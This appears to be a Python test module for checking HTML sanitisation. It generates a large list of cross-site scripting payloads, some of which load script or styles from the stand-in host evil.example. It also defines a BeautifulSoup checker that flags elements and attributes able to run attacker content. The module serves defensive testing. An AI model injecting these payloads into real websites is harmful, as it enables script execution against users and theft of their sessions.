"""What attackers type, and the look at a page that shows whether any of it came alive."""

import re
from collections.abc import Iterator
from itertools import product

from bs4 import BeautifulSoup

_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerdown",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "a href=#",
    "marquee",
    "select",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "&#106;avascript:",
    "javascript&colon;",
    "//evil.example/",
    "blob:",
)
_LINKS = ("[x]({}alert(1))", "<{}alert(1)>", "[x]: {}alert(1)\n\n[x]", "<a href='{}alert(1)'>x</a>")
_BREAKOUTS = (
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</option></select>",
)
_ODD = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<svg><use href=data:image/svg+xml,x#y></svg>",
    "<svg><script href=data:,alert(1)></script></svg>",
    "{{ 7 * 7 }}{% for x in () %}{{ config }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "%(name)s %s %d {0} {name}",
    "<img src=`x` onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "![x](javascript:alert(1)) ![x](//evil.example/x.png)",
    "\u202e\u2066<script>alert(1)</script>\u2069",
    "\ufeff\u200b<\u200dscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *_ODD,
            *(f"<{tag} {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)),
            *(link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)),
            *(
                f"{way_out}{what}"
                for way_out, what in product(
                    _BREAKOUTS,
                    (
                        "<script>alert(1)</script>",
                        " onfocus=alert(1) autofocus x=",
                        "<img src=x onerror=alert(1)>",
                        "<svg onload=alert(1)>",
                        "<iframe src=javascript:alert(1)>",
                    ),
                )
            ),
        ]
    )
)
_NEVER = {
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "math",
    "marquee",
    "video",
    "audio",
    "frame",
    "applet",
    "foreignobject",
}
_ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background")


def alive(html: str) -> Iterator[str]:
    """Every element or attribute that could run or load something of an attacker's."""
    for element in BeautifulSoup(html, "html.parser").find_all(re.compile(".")):
        name = element.name.lower()
        if name in _NEVER or (name == "script" and not str(element.get("src", "")).startswith("/static/")):
            yield str(element)[:120]
        if name in {"meta", "link"} and "evil" in str(element):
            yield str(element)[:120]
        for attribute, value in element.attrs.items():
            if attribute.lower().startswith("on") or attribute.lower() in {"style", "srcdoc"}:
                yield f"{name} {attribute}={value}"
            if attribute.lower() in _ADDRESSES and not _is_harmless(name, str(value)):
                yield f"{name} {attribute}={value}"


def _is_harmless(name: str, address: str) -> bool:
    """Our own paths; and from a link that a reader may follow or not, the web."""
    plain = "".join(sign for sign in address if sign > " ").lower()
    if name == "a" and plain.startswith(("//", "https://", "http://", "mailto:", "tel:")):
        return True
    return plain.startswith(("/", "?", "#")) and not plain.startswith("//")
